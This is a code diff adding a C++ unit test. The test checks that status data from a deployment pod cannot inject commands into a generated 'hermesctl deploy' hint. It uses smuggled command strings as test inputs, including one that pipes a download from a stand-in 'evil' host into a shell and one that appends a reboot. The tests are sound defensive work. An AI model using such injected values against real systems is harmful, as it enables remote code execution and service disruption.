@@ -135,6 +135,24 @@ TEST(Lifelines, WhatTheAgentWroteIsNotPutIntoACommand) {
     EXPECT_THAT(lifeline_trouble(lines, wanted)->hint, Not(HasSubstr("rm -rf")));
 }
 
+TEST(Lifelines, OfWhatThePodSaysOnlyNamesOfVariablesArePutIntoACommand) {
+    const std::string bad = "x; curl evil|sh #_ALLOW_ALL_USERS";
+    const Json said{{"bot", {{"status", 200}}},
+                    {"model", {{"status", 401}, {"key", bad}}},
+                    {"shadowed", {{bad, "/opt/data/.env"}, {"GOOD_KEY", "/opt/data/.env"}}},
+                    {"open",
+                     {{bad, "/opt/data/.env"},
+                      {"A_ALLOW_ALL_USERS", "/opt/data/.env"},
+                      {"B_ALLOW_ALL_USERS", "/opt/data/.env; reboot"},
+                      {"C_ALLOW_ALL_USERS", {"/opt/data/.env"}}}}};
+    const Lifelines lines = parse_lifelines(said.dump()).value();
+    ASSERT_EQ(lines.open.size(), 1u);
+    EXPECT_EQ(lines.open[0].key, "A_ALLOW_ALL_USERS");
+    ASSERT_EQ(lines.shadowed.size(), 1u);
+    EXPECT_EQ(lines.shadowed[0].key, "GOOD_KEY");
+    EXPECT_EQ(lifeline_trouble(lines, wanted)->hint, "hermesctl deploy --secret MINIMAX_API_KEY=-");
+}
+
 TEST(Lifelines, AnotherLiveModelOrNoProviderIsSaid) {
     EXPECT_THAT(lifeline_notes(good(), wanted), IsEmpty());
     Lifelines lines = good();
